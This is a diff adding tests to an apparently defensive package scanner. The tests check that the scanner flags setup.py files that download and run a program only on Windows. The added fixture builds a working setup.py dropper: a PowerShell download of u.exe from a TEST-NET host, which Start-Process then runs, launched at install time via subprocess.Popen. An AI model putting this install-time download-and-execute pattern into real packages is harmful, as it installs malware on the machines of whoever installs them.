@@ -399,6 +399,40 @@ def test_pass_hint_names_the_kept_rules_that_matched(tmp_path: Path) -> None:
     assert json.loads((tmp_path / "static.json").read_text())["hint"].startswith("static rules matched")
 
 
+def windows_dropper(gate: str, host: str) -> str:
+    """setup.py code that, under *gate*, downloads a program and starts it
+    (tabulation-shaped; TEST-NET *host*, nothing there to run)."""
+    cmd = (
+        f"powershell -command Invoke-WebRequest -UseBasicParsing -Uri http://{host}/u.exe "
+        "-OutFile $env:TEMP\\u.exe; Start-Process $env:TEMP\\u.exe"
+    )
+    return f"import os, subprocess, sys\n{gate}\n    subprocess.Popen(r{cmd!r}, shell=True)\n"
+
+
+def _windows_dropper_setup(gate: str, host: str) -> str:
+    return windows_dropper(gate, host) + "from setuptools import setup\nsetup(name='x')\n"
+
+
+def test_pass_hint_for_a_windows_gated_setup_py_that_downloads_and_runs(tmp_path: Path) -> None:
+    """Download-and-run in setup.py is a rule too noisy on benign code to speak alone;
+    gated on Windows, it calls for the Windows pass."""
+    from sandbox.judge.static import pass_hint
+    from tests.fixtures.builders import Randomised, build_sdist
+
+    r = Randomised()
+    gate = r.rng.choice(
+        ['if os.name == "nt":', "if sys.platform == 'win32':", "if sys.platform.startswith('win'):"]
+    )
+    gated = build_sdist(
+        tmp_path, r.name("gated"), "1.0", {}, setup_py=_windows_dropper_setup(gate, r.address())
+    )
+    plain = build_sdist(
+        tmp_path, r.name("open"), "1.0", {}, setup_py=_windows_dropper_setup("if True:", r.address())
+    )
+    assert "setup.py gated on Windows" in pass_hint(gated), pass_hint(gated)
+    assert pass_hint(plain) == ""
+
+
 def test_windows_trigger_on_a_command_line_popen_and_the_pass_runs_it(tmp_path: Path) -> None:
     out = "FileNotFoundError: [Errno 2] No such file or directory: '/v/bin/python -m pip install x'"
     assert "variable" not in passes.windows_trigger([{"steps": [{"output": out}]}]) != ""
